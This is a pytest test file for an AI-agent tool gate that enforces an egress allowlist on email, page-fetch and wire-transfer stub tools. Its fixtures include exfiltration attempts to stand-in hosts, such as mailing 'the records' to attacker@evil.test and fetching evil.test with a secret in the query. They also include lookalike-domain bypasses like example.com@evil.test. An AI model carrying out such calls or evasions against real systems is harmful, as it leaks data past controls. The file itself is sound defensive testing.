"""Egress allowlist: a destination argument outside the spec's `egress.allow` is denied
`egress.not_allowed` before the call, whatever the tool's tier."""

from __future__ import annotations

from typing import Any

import pytest
from pydantic import AnyUrl

from steward.core.decision import Verdict
from steward.core.errors import SpecError
from steward.core.messages import ToolCall
from steward.gate import Gate
from steward.policy import compile_policy
from steward.security.egress import allowed
from steward.spec import load_spec_text
from steward.testing import MemoryScope, memory_gate_config
from steward.tools import tool

SENT: list[dict[str, Any]] = []


@tool(effect="write", destinations=("to",))
def send_email(to: str, body: str) -> str:
    SENT.append({"to": to, "body": body})
    return "sent"


@tool(effect="read")
def fetch_page(url: AnyUrl) -> str:  # a destination by its schema format (uri)
    SENT.append({"url": str(url)})
    return "<html>ok</html>"


@tool(effect="write", destinations=("account",))
def wire(account: str, amount: float) -> str:
    SENT.append({"account": account})
    return "wired"


TOOLS = {"send_email": send_email, "fetch_page": fetch_page, "wire": wire}
SPEC = """
name: mailer
model: scripted
tools: [send_email, fetch_page, wire]
decision_authority: {autonomous: [send_email, fetch_page, wire]}
egress:
  allow: [example.com, "*.docs.example.org", ops@partner.test, "re:ACCT-\\\\d{6}"]
"""


async def _call(name: str, args: dict[str, Any], spec: str = SPEC) -> Any:
    loaded = load_spec_text(spec, "mailer.yaml")
    policy = compile_policy(loaded.spec, loaded.version, TOOLS)
    gate = Gate(policy, TOOLS, memory_gate_config())
    SENT.clear()
    return await gate.process(MemoryScope(), ToolCall("c1", name, args), 1)


@pytest.mark.parametrize(
    ("name", "args"),
    [
        ("send_email", {"to": "attacker@evil.test", "body": "the records"}),
        ("send_email", {"to": "ops@partner.test.evil.test", "body": "x"}),
        ("fetch_page", {"url": "https://evil.test/?q=secret"}),
        ("fetch_page", {"url": "https://docs.example.org/"}),  # *. means under it, not it
        ("fetch_page", {"url": "https://example.com.evil.test/"}),
        ("wire", {"account": "ACCT-1234567", "amount": 5}),
    ],
)
async def test_a_destination_outside_the_allowlist_is_denied_before_the_call(
    name: str, args: dict[str, Any]
) -> None:
    outcome = await _call(name, args)
    assert outcome.decision.verdict is Verdict.DENY
    assert [r.code for r in outcome.decision.reasons] == ["egress.not_allowed"]
    assert SENT == [], "the tool never ran"


@pytest.mark.parametrize(
    ("name", "args"),
    [
        ("send_email", {"to": "Alice@Example.com", "body": "hi"}),
        ("send_email", {"to": "ops@partner.test", "body": "hi"}),
        ("fetch_page", {"url": "https://api.docs.example.org/v1"}),
        ("fetch_page", {"url": "http://example.com:8080/x"}),
        ("wire", {"account": "ACCT-123456", "amount": 5}),
    ],
)
async def test_an_allowed_destination_runs(name: str, args: dict[str, Any]) -> None:
    outcome = await _call(name, args)
    assert outcome.status.value == "executed", outcome.decision
    assert len(SENT) == 1


async def test_without_an_egress_section_destinations_are_not_checked() -> None:
    spec = SPEC.split("egress:")[0]
    outcome = await _call("send_email", {"to": "anyone@anywhere.test", "body": "x"}, spec)
    assert outcome.status.value == "executed"


def test_destinations_come_from_metadata_and_schema_format() -> None:
    assert send_email.destinations == {"to"}
    assert fetch_page.destinations == {"url"}
    with pytest.raises(TypeError, match="not parameters"):
        tool(effect="write", destinations=("nope",))(lambda to: to)


def test_a_bad_pattern_is_a_spec_error_with_its_field() -> None:
    with pytest.raises(SpecError) as info:
        load_spec_text(SPEC.replace('"re:ACCT-\\\\d{6}"', '"re:("'), "mailer.yaml")
    assert "egress" in str(info.value)


def test_patterns() -> None:
    assert allowed("https://EXAMPLE.com/a", ["example.com"])
    assert not allowed("https://example.com@evil.test/", ["example.com"])
    assert allowed("user@mail.evil.test", ["*.evil.test"])
    assert not allowed("user@evil.test", ["*.evil.test"])
    assert not allowed("ACCT-1234567", ["re:ACCT-\\d{6}"]), "a regex matches the whole value"
